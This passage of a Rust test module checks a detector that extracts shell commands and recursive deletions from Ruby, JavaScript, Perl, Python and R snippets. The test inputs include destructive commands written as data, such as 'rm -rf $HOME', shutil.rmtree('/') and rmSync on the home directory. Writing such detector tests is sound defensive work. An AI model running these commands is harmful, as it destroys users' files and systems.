            r#"h = ENV["HOME"]; system("rm -rf #{h}")"#,
            "rm -rf $HOME",
        ),
        (
            Lang::Ruby,
            r#"system("rm -rf " + Dir.home.to_s)"#,
            "rm -rf $HOME",
        ),
    ];

    #[test]
    fn home_computed_in_the_language_is_home() {
        for (lang, code, want) in HOME_SHELL_OUTS {
            assert_eq!(shells(*lang, code), [*want], "{lang:?}: {code}");
        }
        // A default: either may run.
        assert_eq!(
            shells(
                Lang::Js,
                "execSync('rm -rf ' + (process.env.HOME || '/tmp'))"
            ),
            ["rm -rf $HOME", "rm -rf /tmp"]
        );
        // Data and other variables stay what they are.
        assert_eq!(
            shells(Lang::Perl, r#"system("ls ".$ENV{HOME})"#),
            ["ls $HOME"]
        );
        assert!(shells(Lang::Perl, r#"print $ENV{HOME}"#).is_empty());
        assert_eq!(
            shells(Lang::Python, "h = 'build'; os.system('rm -rf ' + h)"),
            ["rm -rf build"]
        );
        assert_eq!(
            shells(Lang::Perl, r#"my %h = (a => 1); system("echo $h{a}")"#),
            ["echo ${__hookrules_unknown}"]
        );
        assert_eq!(
            shells(Lang::Python, "os.system('rm -rf ' + x)"),
            ["rm -rf ${__hookrules_unknown}"]
        );
        assert_eq!(shells(Lang::Perl, "system('seq', 1..3)").len(), 0);
    }

    #[test]
    fn deletes_by_place() {
        assert_eq!(
            deletes(Lang::Python, "import shutil; shutil.rmtree('/')"),
            [(true, "/".into())]
        );
        assert_eq!(
            deletes(Lang::Python, "shutil.rmtree(os.path.expanduser('~'))"),
            [(true, "$HOME".into())]
        );
        assert_eq!(
            deletes(Lang::Python, "shutil.rmtree(pathlib.Path.home())"),
            [(true, "$HOME".into())]
        );
        assert_eq!(
            deletes(Lang::Ruby, "FileUtils.rm_rf(Dir.home)"),
            [(true, "$HOME".into())]
        );
        assert_eq!(
            deletes(
                Lang::Js,
                "require('fs').rmSync(process.env.HOME, {recursive: true, force: true})"
            ),
            [(true, "$HOME".into())]
        );
        assert_eq!(
            deletes(Lang::Js, "fs.rmSync('dist')"),
            [(false, "dist".into())]
        );
        assert_eq!(
            deletes(Lang::Perl, "unlink glob(\"~/*\")"),
            [(false, "$HOME/*".into())]
        );
        assert_eq!(
            deletes(Lang::R, "unlink(\"~\", recursive = TRUE)"),
            [(true, "$HOME".into())]
        );
        assert_eq!(
            deletes(
                Lang::Python,
                "shutil.rmtree(os.path.join(os.path.expanduser('~'), 'Documents'))"
            ),
            [(true, "$HOME/Documents".into())]
        );
    }
}
